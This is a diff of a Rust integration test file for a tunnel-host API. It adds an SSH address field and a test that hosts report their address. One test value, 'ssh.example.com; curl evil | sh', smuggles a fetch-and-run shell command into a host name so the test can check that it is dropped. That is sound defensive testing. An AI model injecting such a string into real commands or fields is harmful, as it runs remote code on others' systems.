@@ -8,7 +8,7 @@ use std::sync::Arc;
 
 use axum::http::StatusCode;
 use common::{START_MS, add_member, add_user, api, send, setup_owner, sign_in_as};
-use durable_state::link::{EdgeMessage, HostMessage, LinkTunnel};
+use durable_state::link::{EdgeMessage, HostAddress, HostMessage, LinkTunnel};
 use edge_api::{
     Platform,
     platform::native::{self, HostFrame, LocalObjects, ManualClock},
@@ -124,6 +124,7 @@ async fn tunnels_are_listed_from_each_hosts_link() {
             tunnel("t2", "beta", "alice-from-authorized-keys"),
             tunnel("t1", "alpha", &f.owner_id),
         ],
+        address: None,
     })));
     let list = f.get("/api/orgs/ada-lab/tunnels", &f.owner).await;
     let tunnels = list.json.as_array().expect("list");
@@ -146,6 +147,10 @@ async fn tunnels_are_listed_from_each_hosts_link() {
 
     let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
     assert_eq!(hosts.json[0]["status"], "online");
+    assert!(
+        hosts.json[0]["ssh_port"].is_null(),
+        "a host that does not say has no address"
+    );
 
     // Closed tunnels leave the list; a disconnected host's stay, marked.
     f.host(HostFrame::Message(Box::new(HostMessage::Closed {
@@ -159,6 +164,48 @@ async fn tunnels_are_listed_from_each_hosts_link() {
     // The link decides, even while the host's last HTTP call is recent.
     let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
     assert_eq!(hosts.json[0]["status"], "offline");
+}
+
+#[tokio::test]
+async fn hosts_list_the_ssh_address_their_hello_reported() {
+    let f = fixture().await;
+    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
+    assert_eq!(hosts.status, StatusCode::OK);
+    assert!(hosts.json[0]["ssh_host"].is_null() && hosts.json[0]["ssh_port"].is_null());
+    f.host(HostFrame::Connect);
+    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
+        version: "0.2.0".into(),
+        hostname: None,
+        tunnels: vec![],
+        address: Some(HostAddress {
+            ssh_host: "ssh.example.com".into(),
+            ssh_port: 40022,
+            tunnel_domain: "t.example.com".into(),
+        }),
+    })));
+    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
+    assert_eq!(hosts.json[0]["ssh_host"], "ssh.example.com");
+    assert_eq!(hosts.json[0]["ssh_port"], 40022);
+    assert_eq!(hosts.json[0]["tunnel_domain"], "t.example.com");
+    // Kept while the host is away: the command stays right for its return.
+    f.host(HostFrame::Disconnect);
+    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
+    assert_eq!(hosts.json[0]["status"], "offline");
+    assert_eq!(hosts.json[0]["ssh_port"], 40022);
+    // Anything a shell would split is not passed on.
+    f.host(HostFrame::Connect);
+    f.host(HostFrame::Message(Box::new(HostMessage::Hello {
+        version: "0.2.0".into(),
+        hostname: None,
+        tunnels: vec![],
+        address: Some(HostAddress {
+            ssh_host: "ssh.example.com; curl evil | sh".into(),
+            ssh_port: 22,
+            tunnel_domain: "t.example.com".into(),
+        }),
+    })));
+    let hosts = f.get("/api/orgs/ada-lab/tunnel-hosts", &f.owner).await;
+    assert!(hosts.json[0]["ssh_host"].is_null(), "{}", hosts.json);
 }
 
 #[tokio::test]
@@ -393,6 +440,7 @@ async fn a_host_learns_no_names_or_emails_outside_its_organization() {
             tunnel("t1", "alpha", &bob),
             tunnel("t2", "beta", &f.owner_id),
         ],
+        address: None,
     })));
     let list = f.get("/api/orgs/ada-lab/tunnels", &member).await;
     assert_eq!(list.status, StatusCode::OK);
@@ -422,6 +470,7 @@ async fn a_host_may_report_only_http_https_and_tcp_public_urls() {
         version: "0.1.0".into(),
         hostname: None,
         tunnels: vec![evil.clone(), tcp, secure],
+        address: None,
     })));
     f.host(HostFrame::Message(Box::new(HostMessage::Opened {
         tunnel: LinkTunnel {
